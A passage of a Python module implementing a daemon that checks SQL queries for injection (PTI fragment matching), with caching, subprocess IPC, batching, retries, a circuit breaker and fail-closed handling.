- :class:`SubprocessPTIDaemon` -- a real child process hosting a
  :class:`PTIDaemon`, reached over a pipe.  Two lifetimes mirror the paper:
  ``persistent=True`` spawns once and reuses the process (the optimized
  daemon); ``persistent=False`` spawns a fresh process per query (the
  paper's unoptimized initial implementation).  Spawn and IPC times are
  accounted separately because the paper's "PHP extension" overhead
  estimate is computed by excluding exactly those costs (Section VI-C).

Failure model (DESIGN.md section 7): the subprocess wrapper is the
resilient edge of the system.  Receives are ``poll(timeout)``-bounded (a
hung child cannot stall a request forever), respawn/IPC retries follow an
exponential-backoff-with-jitter :class:`~repro.core.resilience.RetryPolicy`,
and a :class:`~repro.core.resilience.CircuitBreaker` around spawn/IPC turns
a crash-looping child into fast typed refusals instead of a spawn storm.
The only exceptions that escape :meth:`SubprocessPTIDaemon.analyze_query`
are the typed :class:`~repro.core.resilience.PTIFailure` family and
:class:`~repro.core.resilience.DeadlineExceeded`; the engine converts both
into fail-closed or degraded verdicts, never letting a query through
unvetted.
"""

from __future__ import annotations

import multiprocessing
import pickle
import random
import threading
import time
from dataclasses import dataclass, field

from . import wire
from ..core.resilience import (
    CircuitBreaker,
    CorruptReply,
    DaemonCrash,
    DaemonTimeout,
    DaemonUnavailable,
    Deadline,
    PTIFailure,
    RetryPolicy,
)
from ..core.verdict import AnalysisResult, Technique
from ..sqlparser.parser import critical_tokens
from ..sqlparser.structure import signature_and_tokens
from ..sqlparser.tokens import Token
from .caches import QueryCache, StructureCache
from .fragments import FragmentStore
from .inference import PTIAnalyzer, PTIConfig

__all__ = ["DaemonReply", "StageTimings", "PTIDaemon", "SubprocessPTIDaemon"]


class StageTimings:
    """Accumulated wall-clock seconds per pipeline stage."""

    STAGES = ("spawn", "ipc", "parse", "match", "cache")

    def __init__(self) -> None:
        self.seconds: dict[str, float] = {stage: 0.0 for stage in self.STAGES}

    def add(self, stage: str, dt: float) -> None:
        self.seconds[stage] = self.seconds.get(stage, 0.0) + dt

    def total(self, *, exclude: tuple[str, ...] = ()) -> float:
        return sum(v for k, v in self.seconds.items() if k not in exclude)

    def reset(self) -> None:
        for stage in self.seconds:
            self.seconds[stage] = 0.0

    def snapshot(self) -> dict[str, float]:
        return dict(self.seconds)


# The wire format packs stage deltas positionally; the two stage tuples
# must never drift apart.
assert StageTimings.STAGES == wire.STAGES


@dataclass
class DaemonReply:
    """What the daemon communicates back to the application wrapper."""

    safe: bool
    result: AnalysisResult
    tokens: list[Token] | None = None  # None when served from a cache
    from_cache: str | None = None  # "query" | "structure" | None


@dataclass
class DaemonConfig:
    """Cache/optimization switches (each a Table V / Fig. 7 ablation axis).

    ``strict_tokens`` selects the Ray/Ligatti-style token policy in which
    identifiers are critical too (paper Section II's adjustable policy).

    The embedded :class:`~repro.pti.inference.PTIConfig` carries the
    matching-engine selector (``matcher=auto|scan|automaton``, DESIGN.md
    section 9); because the whole config is pickled into
    :class:`SubprocessPTIDaemon` children, the one-pass automaton engine is
    threaded through the real subprocess deployment unchanged.
    """

    use_query_cache: bool = True
    use_structure_cache: bool = True
    pti: PTIConfig = field(default_factory=PTIConfig)
    query_cache_capacity: int = 10_000
    structure_cache_capacity: int = 10_000
    strict_tokens: bool = False


class PTIDaemon:
    """The PTI analysis service: parse, cache-lookup, fragment-match."""

    def __init__(
        self, store: FragmentStore, config: DaemonConfig | None = None
    ) -> None:
        self.config = config or DaemonConfig()
        self.analyzer = PTIAnalyzer(store, self.config.pti)
        self.query_cache = QueryCache(self.config.query_cache_capacity)
        self.structure_cache = StructureCache(self.config.structure_cache_capacity)
        self.timings = StageTimings()
        self.queries_analyzed = 0
        #: Serializes the analysis pipeline.  The individual caches are
        #: independently locked, but the epoch-flush is check-then-act and
        #: the stage timings are read-modify-write; one in-process daemon
        #: shared by N threads must not interleave them.  In-process match
        #: work is GIL-serialized anyway -- parallel PTI throughput comes
        #: from the subprocess pool (DESIGN.md section 10).
        self._lock = threading.RLock()
        #: Fragment-store epoch the caches were built under; any in-place
        #: store mutation (add/remove/reload) flushes them on next use.
        self._cache_epoch = store.epoch

    @property
    def store(self) -> FragmentStore:
        return self.analyzer.store

    def refresh_fragments(self, store: FragmentStore) -> None:
        """Swap in a new fragment set (plugin installed/updated, IV-B).

        Cached verdicts were computed against the old vocabulary, so both
        caches are invalidated.
        """
        with self._lock:
            self.analyzer = PTIAnalyzer(store, self.config.pti)
            self.query_cache.clear()
            self.structure_cache.clear()
            self._cache_epoch = store.epoch

    def warm(self) -> None:
        """Precompile the matcher for the current epoch (warm handoff).

        Called after :meth:`refresh_fragments` while the daemon is off the
        request path (snapshot application in a child, pool worker
        refresh) so the first query against the new vocabulary does not
        pay the per-epoch automaton build inline.
        """
        with self._lock:
            self.analyzer.warm()

    def analyze_query(
        self, query: str, deadline: Deadline | None = None
    ) -> DaemonReply:
        """Full daemon pipeline for one query.

        ``deadline`` bounds the in-process stages: it is checked between
        the cache-lookup, parse and match stages (the match stage -- a scan
        over the whole fragment corpus for malicious queries -- is the only
        one that can realistically run long).  On expiry
        :class:`~repro.core.resilience.DeadlineExceeded` propagates to the
        engine, which resolves it per its failure policy.

        Thread-safe: the whole pipeline runs under the daemon lock, so an
        epoch flush can never interleave with another thread's cache fill
        and the stage timings stay consistent.
        """
        with self._lock:
            return self._analyze_query_locked(query, deadline)

    def analyze_batch(
        self, queries: list[str], deadline: Deadline | None = None
    ) -> list[DaemonReply]:
        """Analyze a batch under ONE lock acquisition.

        Semantically identical to ``[analyze_query(q) for q in queries]``
        -- same caches, same epoch flush, same deadline checks -- but the
        daemon lock is taken once for the whole batch, so concurrent
        callers cannot interleave mid-batch and the per-query lock
        round-trip cost is amortised away.  Because the epoch check runs
        under the same continuously-held lock, every query in the batch is
        served against one consistent fragment-store epoch.
        """
        with self._lock:
            return [self._analyze_query_locked(q, deadline) for q in queries]

    def _analyze_query_locked(
        self, query: str, deadline: Deadline | None
    ) -> DaemonReply:
        self.queries_analyzed += 1
        if deadline is not None:
            deadline.check("pti")
        store = self.analyzer.store
        if store.epoch != self._cache_epoch:
            # The vocabulary changed in place (plugin add/remove): every
            # cached verdict was computed against the old epoch.  The
            # analyzer guards its own derived state (MRU prune, automaton
            # recompile) via the same epoch on its next call.
            self._cache_epoch = store.epoch
            self.query_cache.clear()
            self.structure_cache.clear()
        if self.config.use_query_cache:
            t0 = time.perf_counter()
            cached = self.query_cache.get(query)
            self.timings.add("cache", time.perf_counter() - t0)
            if cached is not None:
                safe, cached_tokens = cached
                return DaemonReply(
                    safe=safe,
                    result=AnalysisResult(
                        technique=Technique.PTI, safe=safe, from_cache="query"
                    ),
                    tokens=cached_tokens,
                    from_cache="query",
                )
        signature: str | None = None
        tokens: list[Token] | None = None
        if self.config.use_structure_cache:
            t0 = time.perf_counter()
            signature, tokens = signature_and_tokens(
                query, strict=self.config.strict_tokens
            )
            self.timings.add("parse", time.perf_counter() - t0)
            t0 = time.perf_counter()
            cached = (
                self.structure_cache.get(signature) if signature is not None else None
            )
            self.timings.add("cache", time.perf_counter() - t0)
            if cached is not None:
                if self.config.use_query_cache:
                    self.query_cache.put(query, (cached, tokens))
                return DaemonReply(
                    safe=cached,
                    result=AnalysisResult(
                        technique=Technique.PTI, safe=cached, from_cache="structure"
                    ),
                    tokens=tokens,
                    from_cache="structure",
                )
        if tokens is None:
            t0 = time.perf_counter()
            tokens = critical_tokens(query, strict=self.config.strict_tokens)
            self.timings.add("parse", time.perf_counter() - t0)
        if deadline is not None:
            deadline.check("pti")
        t0 = time.perf_counter()
        result = self.analyzer.analyze(query, tokens)
        self.timings.add("match", time.perf_counter() - t0)
        t0 = time.perf_counter()
        if self.config.use_query_cache:
            self.query_cache.put(query, (result.safe, tokens))
        # Only SAFE verdicts are cacheable by signature: the signature
        # identifies a code-site template, and a template once proven safe
        # stays safe for any bound data.  Unsafe verdicts are not structural
        # facts (a differently-spaced/ cased attack may be coverable), and
        # attacks are rare enough that re-analysing them costs nothing --
        # "malicious queries may require scanning the entire set of
        # fragments" (Section VI-A).
        if (
            self.config.use_structure_cache
            and signature is not None
            and result.safe
        ):
            self.structure_cache.put(signature, result.safe)
        self.timings.add("cache", time.perf_counter() - t0)
        return DaemonReply(safe=result.safe, result=result, tokens=tokens)


def _reply_deltas(daemon: PTIDaemon, previous: dict[str, float]) -> dict[str, float]:
    """Stage-timing deltas since ``previous``, updating it in place."""
    current = daemon.timings.snapshot()
    deltas = {k: current[k] - previous.get(k, 0.0) for k in current}
    previous.clear()
    previous.update(current)
    return deltas


def _daemon_loop(conn, fragments: list[str], config: DaemonConfig) -> None:
    """Child-process entry point: serve queries over the pipe until EOF.

    Each reply carries the child's per-stage timing deltas so the parent can
    attribute analysis time to parse/match/cache even across the process
    boundary (needed for the Figure 7 breakdown).

    One loop serves both protocols, sniffed per message on the raw bytes
    (``recv_bytes`` + explicit ``pickle.loads`` is exactly what
    ``Connection.recv`` does internally, so the legacy path is
    byte-compatible with old parents):

    - legacy: a pickled query string (or ``None`` shutdown sentinel),
      answered with a pickled ``(safe, from_cache, tokens, deltas)`` tuple;
    - batch: a packed ``wire`` request frame (magic ``b"JZ"``; a pickle
      can never start with those bytes), answered with one packed reply
      frame -- one IPC exchange for the whole batch.  A reply the packed
      format cannot express exactly (see ``wire.spans_from_tokens``) falls
      back to a pickled verdict list, which the parent also accepts; a
      malformed request frame ends the loop (the parent sees EOF ->
      ``DaemonCrash`` -> fail-closed, never a made-up verdict).
    """
    daemon = PTIDaemon(FragmentStore(fragments), config)
    previous = daemon.timings.snapshot()
    while True:
        try:
            buf = conn.recv_bytes()
        except EOFError:
            break
        if wire.is_frame(buf):
            try:
                kind = wire.peek_kind(buf)
            except wire.WireFormatError:
                break
            if kind == wire.KIND_SNAPSHOT:
                # Replication push (tenancy warm handoff): swap the
                # vocabulary in place -- no child respawn -- precompile
                # the new epoch's automaton, then ack.  The parent holds
                # this worker out of service until the ack, so the build
                # never runs under a live query.
                try:
                    _tenant, epoch, new_fragments = wire.unpack_store_snapshot(buf)
                except wire.WireFormatError:
                    break
                daemon.refresh_fragments(FragmentStore(new_fragments))
                daemon.warm()
                conn.send_bytes(wire.pack_snapshot_ack(epoch))
                continue
            try:
                queries = wire.unpack_batch_request(buf)
            except wire.WireFormatError:
                break
            replies = daemon.analyze_batch(queries)
            deltas = _reply_deltas(daemon, previous)
            try:
                verdicts = [
                    (
                        r.safe,
                        r.from_cache,
                        None
                        if r.tokens is None
                        else wire.spans_from_tokens(r.tokens),
                    )
                    for r in replies
                ]
                frame = wire.pack_batch_reply(verdicts, deltas)
            except wire.WireFormatError:
                conn.send_bytes(
                    pickle.dumps(
                        [
                            (r.safe, r.from_cache, r.tokens, deltas)
                            for r in replies
                        ]
                    )
                )
            else:
                conn.send_bytes(frame)
            continue
        message = pickle.loads(buf)
        if message is None:
            break
        reply = daemon.analyze_query(message)
        deltas = _reply_deltas(daemon, previous)
        conn.send((reply.safe, reply.from_cache, reply.tokens, deltas))
    conn.close()


class SubprocessPTIDaemon:
    """A real PTI daemon child process reached over an anonymous pipe.

    In ``persistent`` mode the process is spawned once (named-pipe-style
    long-lived daemon); otherwise every query pays a fresh spawn (the
    unoptimized configuration of Figure 7).

    Resilience contract: :meth:`analyze_query` either returns a
    :class:`DaemonReply` or raises a typed
    :class:`~repro.core.resilience.PTIFailure` /
    :class:`~repro.core.resilience.DeadlineExceeded`.  Raw pipe errors
    (``EOFError``, ``BrokenPipeError``, ``OSError``) never escape; replies
    are shape-validated so a corrupted child message surfaces as
    :class:`~repro.core.resilience.CorruptReply` rather than an unpacking
    crash in the request path.

    Args:
        store: fragment vocabulary served to spawned children.
        config: cache/optimization switches (pickled/forked into children).
        persistent: reuse one child (True) vs spawn per query (False).
        recv_timeout: ``poll`` bound on each reply wait; a child that stays
            silent longer is declared hung, killed and (maybe) retried.
        retry: backoff schedule for respawn/IPC retries.
        breaker: circuit breaker guarding spawn/IPC; ``None`` disables
            breaking (the seed behavior).
        seed: RNG seed for backoff jitter (reproducible chaos runs).
    """

    #: Whether this daemon's child loop understands packed ``wire`` batch
    #: frames.  Subclasses that install their own child loop (the chaos
    #: and pacing harnesses) set this False and :meth:`analyze_batch`
    #: degrades to per-query legacy round-trips -- same verdicts, no
    #: protocol assumptions about the replacement loop.
    supports_batch_wire = True

    def __init__(
        self,
        store: FragmentStore,
        config: DaemonConfig | None = None,
        *,
        persistent: bool = True,
        recv_timeout: float | None = 5.0,
        retry: RetryPolicy | None = None,
        breaker: CircuitBreaker | None = None,
        seed: int | None = None,
    ) -> None:
        self.fragments = store.fragments
        self._store: FragmentStore | None = store
        self.config = config or DaemonConfig()
        self.persistent = persistent
        self.recv_timeout = recv_timeout
        self.retry = retry or RetryPolicy()
        self.breaker = breaker if breaker is not None else CircuitBreaker()
        self._rng = random.Random(seed)
        self.timings = StageTimings()
        self._conn = None
        self._process: multiprocessing.Process | None = None
        #: Guards the ``_conn``/``_process`` slots (check-spawn-assign,
        #: discard, close are each atomic).  Reentrant: ``_round_trip``
        #: holds it during checkout and may call ``_discard_child``.
        self._lifecycle = threading.RLock()
        #: Serializes pipe I/O: the persistent pipe is strict FIFO, so two
        #: threads interleaving send/recv would desynchronize replies.
        #: ``close()`` deliberately does NOT take this lock -- it swaps the
        #: slots under ``_lifecycle`` and closes the pipe, which surfaces
        #: in a blocked reader as ``OSError`` -> ``DaemonCrash`` (the
        #: in-flight request fails closed; no child is leaked).
        self._io_lock = threading.Lock()
        #: Guards counters mutated outside the I/O critical section.
        self._stats_lock = threading.Lock()
        # Observability counters (surfaced via resilience_snapshot()).
        self.spawns = 0
        self.retries = 0
        self.timeouts = 0
        self.crashes = 0
        self.corrupt_replies = 0
        self.unavailable = 0
        self.batches = 0
        self.oversized_batches = 0
        self.snapshot_applies = 0
        self.snapshot_fallbacks = 0

    # ------------------------------------------------------------------
    # Fragment access (engine fallback path + protect() refresh hook)
    # ------------------------------------------------------------------

    @property
    def store(self) -> FragmentStore:
        """The fragment vocabulary (rebuilt lazily after a refresh)."""
        with self._lifecycle:
            if self._store is None:
                self._store = FragmentStore(self.fragments)
            return self._store

    def refresh_fragments(self, store: FragmentStore) -> None:
        """Swap the fragment set; the child is restarted on next use."""
        with self._lifecycle:
            self.fragments = store.fragments
            self._store = store
        self.close()

    def apply_snapshot(self, store: FragmentStore, frame=None) -> None:
        """Hot-swap the child's vocabulary in place (replication push).

        The fast-path alternative to :meth:`refresh_fragments`: instead of
        killing the child and paying a full respawn on next use, a packed
        snapshot frame (``frame``, packed once per epoch by the pusher and
        shared across all workers; packed here when absent) is sent to the
        live child, which rebuilds its store, precompiles the new epoch's
        automaton and acks -- a warm handoff with no process churn.

        Fail-safe: any pipe error, timeout or malformed ack discards the
        child, and the next use respawns it over the *new* fragments --
        a worker can end up cold, never stale.  Children running a
        replacement loop (``supports_batch_wire=False``) or non-persistent
        daemons fall back to the legacy close-and-respawn refresh.
        """
        if not self.persistent or not self.supports_batch_wire:
            with self._stats_lock:
                self.snapshot_fallbacks += 1
            self.refresh_fragments(store)
            return
        with self._io_lock:
            with self._lifecycle:
                self.fragments = store.fragments
                self._store = store
                conn, process = self._conn, self._process
                alive = process is not None and process.is_alive()
            if not alive:
                # No live child: nothing to push; the next spawn reads the
                # new fragments.  Still counts as an apply (the swap is
                # complete from the parent's perspective).
                with self._stats_lock:
                    self.snapshot_applies += 1
                return
            epoch = store.epoch
            if frame is None:
                frame = wire.pack_store_snapshot(store.fragments, epoch)
            try:
                try:
                    conn.send_bytes(frame)
                    timeout = self.recv_timeout if self.recv_timeout else 5.0
                    if not conn.poll(timeout):
                        self.timeouts += 1
                        raise DaemonTimeout(
                            f"snapshot ack not received within {timeout:.3f}s"
                        )
                    payload = conn.recv_bytes()
                except (EOFError, BrokenPipeError, ConnectionError, OSError) as exc:
                    self.crashes += 1
                    raise DaemonCrash(f"daemon pipe failed: {exc!r}") from exc
                try:
                    acked = wire.unpack_snapshot_ack(payload)
                except wire.WireFormatError as exc:
                    self.corrupt_replies += 1
                    raise CorruptReply(f"malformed snapshot ack: {exc}") from exc
                if acked != epoch:
                    self.corrupt_replies += 1
                    raise CorruptReply(
                        f"snapshot ack epoch {acked} != pushed epoch {epoch}"
                    )
            except PTIFailure:
                # The child is in an unknown state; drop it.  The slots
                # were already swapped, so the respawn is over the new
                # vocabulary -- cold but correct.
                self._discard_child(conn, process)
                with self._stats_lock:
                    self.snapshot_fallbacks += 1
                return
            with self._stats_lock:
                self.snapshot_applies += 1

    # ------------------------------------------------------------------
    # Child lifecycle
    # ------------------------------------------------------------------

    def _loop_target(self):
        """Child entry point -- overridable (the chaos harness hooks here)."""
        return _daemon_loop

    def _loop_args(self, child_conn) -> tuple:
        return (child_conn, self.fragments, self.config)

    def _spawn(self):
        t0 = time.perf_counter()
        parent_conn, child_conn = multiprocessing.Pipe()
        process = multiprocessing.Process(
            target=self._loop_target(),
            args=self._loop_args(child_conn),
            daemon=True,
        )
        process.start()
        child_conn.close()
        self.spawns += 1
        self.timings.add("spawn", time.perf_counter() - t0)
        return parent_conn, process

    @staticmethod
    def _reap(conn, process: multiprocessing.Process | None) -> None:
        """Tear one child down hard: close pipe, terminate -> kill -> join.

        Used for children in an unknown state (hung, mid-crash, pipe
        desynchronized); the graceful shutdown message is pointless here,
        so escalate straight to signals with bounded joins -- never leave a
        zombie behind.
        """
        if conn is not None:
            try:
                conn.close()
            except OSError:  # pragma: no cover - defensive
                pass
        if process is None:
            return
        process.join(timeout=0.05)
        if process.is_alive():
            process.terminate()
            process.join(timeout=1.0)
        if process.is_alive():  # pragma: no cover - SIGTERM blocked
            process.kill()
            process.join(timeout=1.0)

    def _discard_child(self, conn, process) -> None:
        """Drop a failed child; clears persistent state when it matches.

        The slot check-and-clear is atomic under the lifecycle lock so a
        concurrent ``close()`` (which swaps the slots first) and a failing
        round trip both reap *their own* child exactly once -- reaping an
        already-reaped process is a no-op, so the overlap is harmless.
        """
        with self._lifecycle:
            if self.persistent and conn is self._conn:
                self._conn = None
                self._process = None
        self._reap(conn, process)

    # ------------------------------------------------------------------
    # Analysis
    # ------------------------------------------------------------------

    def _decode(self, payload) -> tuple[bool, str | None, list | None, dict]:
        """Validate the child's reply shape (corruption containment)."""
        if not isinstance(payload, tuple) or len(payload) != 4:
            raise CorruptReply(f"malformed daemon reply: {payload!r:.120}")
        safe, from_cache, tokens, child_deltas = payload
        if not isinstance(safe, bool) or not isinstance(child_deltas, dict):
            raise CorruptReply(f"malformed daemon reply fields: {payload!r:.120}")
        if from_cache is not None and not isinstance(from_cache, str):
            raise CorruptReply(f"malformed from_cache: {from_cache!r:.120}")
        if tokens is not None and not isinstance(tokens, list):
            raise CorruptReply(f"malformed tokens: {tokens!r:.120}")
        return safe, from_cache, tokens, child_deltas

    def _round_trip(self, query: str, deadline: Deadline) -> DaemonReply:
        """One spawn-if-needed + send + bounded receive attempt.

        Serialized on the I/O lock (the pipe is strict FIFO); the child
        checkout is additionally atomic under the lifecycle lock so a
        concurrent ``close()`` or ``refresh_fragments()`` can never observe
        a half-assigned ``(_conn, _process)`` pair or leak a child.
        """
        with self._io_lock:
            return self._round_trip_io(query, deadline)

    def _round_trip_io(self, query: str, deadline: Deadline) -> DaemonReply:
        with self._lifecycle:
            if self.persistent:
                if self._process is None or not self._process.is_alive():
                    self._discard_child(self._conn, self._process)
                    self._conn, self._process = self._spawn()
                conn, process = self._conn, self._process
            else:
                conn, process = self._spawn()
        t0 = time.perf_counter()
        try:
            try:
                conn.send(query)
                timeout = deadline.bound(self.recv_timeout)
                if timeout is not None and not conn.poll(timeout):
                    self.timeouts += 1
                    raise DaemonTimeout(
                        f"daemon reply not received within {timeout:.3f}s"
                    )
                payload = conn.recv()
            except (EOFError, BrokenPipeError, ConnectionError, OSError) as exc:
                self.crashes += 1
                raise DaemonCrash(f"daemon pipe failed: {exc!r}") from exc
            try:
                safe, from_cache, tokens, child_deltas = self._decode(payload)
            except CorruptReply:
                self.corrupt_replies += 1
                raise
        except PTIFailure:
            # The pipe is dead or desynchronized; this child is unusable.
            self._discard_child(conn, process)
            raise
        elapsed = time.perf_counter() - t0
        # Attribute the child's analysis stages, and count only the residual
        # (serialisation + pipe transit + scheduling) as IPC.
        analysis = 0.0
        for stage, dt in child_deltas.items():
            self.timings.add(stage, dt)
            analysis += dt
        self.timings.add("ipc", max(elapsed - analysis, 0.0))
        if not self.persistent:
            try:
                conn.send(None)
                conn.close()
            except (BrokenPipeError, OSError):  # pragma: no cover - defensive
                pass
            self._reap(None, process)
        return DaemonReply(
            safe=safe,
            result=AnalysisResult(
                technique=Technique.PTI, safe=safe, from_cache=from_cache
            ),
            tokens=tokens,
            from_cache=from_cache,
        )

    def _round_trip_batch(
        self, queries: list[str], deadline: Deadline
    ) -> list[DaemonReply]:
        """One batched round-trip: one send, one deadline clamp, one recv.

        The request is packed into a single pre-sized buffer
        (``wire.pack_batch_request``) and handed to ``send_bytes`` -- no
        per-query pickling, no length-prefix concatenation.  The reply is
        sniffed: a packed frame decodes without pickle; a pickled verdict
        list (the child's fallback for token streams the packed format
        cannot express exactly) goes through the same per-item shape
        validation as the legacy protocol.  Either way a count mismatch or
        malformed payload raises ``CorruptReply`` -- the batch fails
        closed as a unit, never partially.
        """
        with self._io_lock:
            with self._lifecycle:
                if self.persistent:
                    if self._process is None or not self._process.is_alive():
                        self._discard_child(self._conn, self._process)
                        self._conn, self._process = self._spawn()
                    conn, process = self._conn, self._process
                else:
                    conn, process = self._spawn()
            t0 = time.perf_counter()
            try:
                try:
                    request = wire.pack_batch_request(queries)
                    conn.send_bytes(request)
                    timeout = deadline.bound(self.recv_timeout)
                    if timeout is not None and not conn.poll(timeout):
                        self.timeouts += 1
                        raise DaemonTimeout(
                            f"daemon batch reply not received within {timeout:.3f}s"
                        )
                    payload = conn.recv_bytes()
                except (EOFError, BrokenPipeError, ConnectionError, OSError) as exc:
                    self.crashes += 1
                    raise DaemonCrash(f"daemon pipe failed: {exc!r}") from exc
                try:
                    decoded, child_deltas = self._decode_batch(queries, payload)
                except CorruptReply:
                    self.corrupt_replies += 1
                    raise
            except PTIFailure:
                self._discard_child(conn, process)
                raise
            elapsed = time.perf_counter() - t0
            analysis = 0.0
            for stage, dt in child_deltas.items():
                self.timings.add(stage, dt)
                analysis += dt
            self.timings.add("ipc", max(elapsed - analysis, 0.0))
            if not self.persistent:
                try:
                    conn.send(None)
                    conn.close()
                except (BrokenPipeError, OSError):  # pragma: no cover - defensive
                    pass
                self._reap(None, process)
            return decoded

    def _decode_batch(
        self, queries: list[str], payload: bytes
    ) -> tuple[list[DaemonReply], dict[str, float]]:
        """Validate + decode one batch reply payload (packed or pickled)."""
        if wire.is_frame(payload):
            try:
                verdicts, child_deltas = wire.unpack_batch_reply(payload)
            except wire.WireFormatError as exc:
                raise CorruptReply(f"malformed batch frame: {exc}") from exc
            if len(verdicts) != len(queries):
                raise CorruptReply(
                    f"batch reply count {len(verdicts)} != request {len(queries)}"
                )
            replies: list[DaemonReply] = []
            for query, (safe, from_cache, spans) in zip(queries, verdicts):
                try:
                    tokens = (
                        None
                        if spans is None
                        else wire.tokens_from_spans(query, spans)
                    )
                except wire.WireFormatError as exc:
                    raise CorruptReply(f"malformed batch token span: {exc}") from exc
                replies.append(
                    DaemonReply(
                        safe=safe,
                        result=AnalysisResult(
                            technique=Technique.PTI, safe=safe, from_cache=from_cache
                        ),
                        tokens=tokens,
                        from_cache=from_cache,
                    )
                )
            return replies, child_deltas
        # Child fell back to a pickled verdict list (rare: a token stream
        # the packed format refuses to ship lossily).
        try:
            items = pickle.loads(payload)
        except Exception as exc:
            raise CorruptReply(f"unpicklable batch reply: {exc!r}") from exc
        if not isinstance(items, list) or len(items) != len(queries):
            raise CorruptReply(f"malformed batch reply list: {items!r:.120}")
        replies = []
        child_deltas: dict[str, float] = {}
        for item in items:
            safe, from_cache, tokens, child_deltas = self._decode(item)
            replies.append(
                DaemonReply(
                    safe=safe,
                    result=AnalysisResult(
                        technique=Technique.PTI, safe=safe, from_cache=from_cache
                    ),
                    tokens=tokens,
                    from_cache=from_cache,
                )
            )
        # Every item carries the same batch-level delta block; attributing
        # the last one once is the packed-path equivalent.
        return replies, child_deltas

    def analyze_batch(
        self, queries: list[str], deadline: Deadline | None = None
    ) -> list[DaemonReply]:
        """Ship a whole batch to the child in one IPC exchange.

        Same resilience contract as :meth:`analyze_query` -- breaker gate,
        bounded receive, retry with backoff, typed failures only -- but
        paid once per *batch*: the batch succeeds or fails closed as a
        unit.  Oversized batches are refused before any I/O with the
        reason recorded (``oversized_batches``); daemons whose child loop
        does not speak the packed protocol degrade to per-query calls.
        """
        if not queries:
            return []
        if not self.supports_batch_wire:
            return [self.analyze_query(q, deadline) for q in queries]
        if len(queries) > wire.MAX_BATCH:
            with self._stats_lock:
                self.oversized_batches += 1
            raise PTIFailure(
                f"batch of {len(queries)} queries exceeds wire MAX_BATCH="
                f"{wire.MAX_BATCH}; split the batch"
            )
        if deadline is None:
            deadline = Deadline.unbounded()
        if self.breaker is not None and not self.breaker.allow():
            with self._stats_lock:
                self.unavailable += 1
            raise DaemonUnavailable(
                "circuit breaker open: daemon spawn/IPC suspended",
                breaker_open=True,
            )
        with self._stats_lock:
            self.batches += 1
        last_failure: PTIFailure | None = None
        for attempt in range(self.retry.max_attempts):
            if attempt:
                with self._stats_lock:
                    self.retries += 1
                delay = deadline.bound(self.retry.delay(attempt - 1, self._rng))
                if delay:
                    time.sleep(delay)
            deadline.check("pti-daemon-batch")
            try:
                replies = self._round_trip_batch(queries, deadline)
            except PTIFailure as failure:
                last_failure = failure
                if self.breaker is not None:
                    self.breaker.record_failure()
                    if not self.breaker.allow():
                        break
                continue
            if self.breaker is not None:
                self.breaker.record_success()
            return replies
        with self._stats_lock:
            self.unavailable += 1
        reason = last_failure.reason if last_failure is not None else "unknown"
        raise DaemonUnavailable(
            f"daemon batch analysis failed after {self.retry.max_attempts} "
            f"attempt(s): {reason}"
        ) from last_failure

    def analyze_query(
        self, query: str, deadline: Deadline | None = None
    ) -> DaemonReply:
        """Ship one query to the child and wait (boundedly) for its verdict.

        A persistent daemon that died between queries (crash, OOM-kill) is
        respawned transparently -- losing only its caches, never failing
        open: a query is executed only after a live daemon vouches for it.
        Transient failures are retried with jittered exponential backoff;
        a query that *deterministically* kills the child (a poison query)
        exhausts the attempts and surfaces as
        :class:`~repro.core.resilience.DaemonUnavailable` with the failure
        chain recorded -- never as a raw ``EOFError`` in the request path.
        When the breaker is open, no spawn is attempted at all.
        """
        if deadline is None:
            deadline = Deadline.unbounded()
        if self.breaker is not None and not self.breaker.allow():
            with self._stats_lock:
                self.unavailable += 1
            raise DaemonUnavailable(
                "circuit breaker open: daemon spawn/IPC suspended",
                breaker_open=True,
            )
        last_failure: PTIFailure | None = None
        for attempt in range(self.retry.max_attempts):
            if attempt:
                with self._stats_lock:
                    self.retries += 1
                delay = deadline.bound(self.retry.delay(attempt - 1, self._rng))
                if delay:
                    time.sleep(delay)
            deadline.check("pti-daemon")
            try:
                reply = self._round_trip(query, deadline)
            except PTIFailure as failure:
                last_failure = failure
                if self.breaker is not None:
                    self.breaker.record_failure()
                    if not self.breaker.allow():
                        break
                continue
            if self.breaker is not None:
                self.breaker.record_success()
            return reply
        with self._stats_lock:
            self.unavailable += 1
        reason = last_failure.reason if last_failure is not None else "unknown"
        raise DaemonUnavailable(
            f"daemon analysis failed after {self.retry.max_attempts} "
            f"attempt(s): {reason}"
        ) from last_failure

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    def resilience_snapshot(self) -> dict[str, object]:
        """Fault-absorption counters for the audit export / bench reports."""
        out: dict[str, object] = {
            "spawns": self.spawns,
            "retries": self.retries,
            "timeouts": self.timeouts,
            "crashes": self.crashes,
            "corrupt_replies": self.corrupt_replies,
            "unavailable": self.unavailable,
            "batches": self.batches,
            "oversized_batches": self.oversized_batches,
            "snapshot_applies": self.snapshot_applies,
            "snapshot_fallbacks": self.snapshot_fallbacks,
        }
        if self.breaker is not None:
            out["breaker"] = self.breaker.snapshot()
        return out

    # ------------------------------------------------------------------
    # Shutdown
    # ------------------------------------------------------------------

    def close(self) -> None:
        """Shut down a persistent child process.

        Idempotent, and safe against every child state: a healthy child
        gets the graceful shutdown message; a hung or half-dead one is
        escalated terminate -> kill with bounded joins so no zombie (nor
        stuck parent) survives ``close()``.

        Safe against a concurrent in-flight round trip: the slots are
        swapped out atomically under the lifecycle lock, then the pipe is
        closed from this thread.  A reader blocked in ``poll``/``recv`` on
        that pipe observes ``OSError``, which the round trip converts into
        :class:`~repro.core.resilience.DaemonCrash` (fail-closed) and whose
        ``_discard_child`` reaps its own handle -- already-reaped children
        make that a no-op, so no child is leaked and none double-freed.
        """
        with self._lifecycle:
            conn, self._conn = self._conn, None
            process, self._process = self._process, None
        if conn is not None:
            try:
                conn.send(None)
            except (BrokenPipeError, OSError):
                pass
            try:
                conn.close()
            except OSError:  # pragma: no cover - defensive
                pass
        if process is not None:
            process.join(timeout=1.0)
            if process.is_alive():
                process.terminate()
                process.join(timeout=1.0)
            if process.is_alive():  # pragma: no cover - SIGTERM blocked
                process.kill()
                process.join(timeout=1.0)

    def __enter__(self) -> "SubprocessPTIDaemon":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
