"""The PTI daemon (paper Section IV-C).

The paper runs PTI as a separate native daemon so that deployment needs no
administrator privileges: the PHP application spawns the daemon and talks to
it over pipes.  This module provides both flavours:

- :class:`PTIDaemon` -- the analysis service itself (fragment matching plus
  the query and structure caches), usable in-process.  Per-stage wall-clock
  timings are recorded so the Figure 7 breakdown can be regenerated.
- :class:`SubprocessPTIDaemon` -- a real child process hosting a
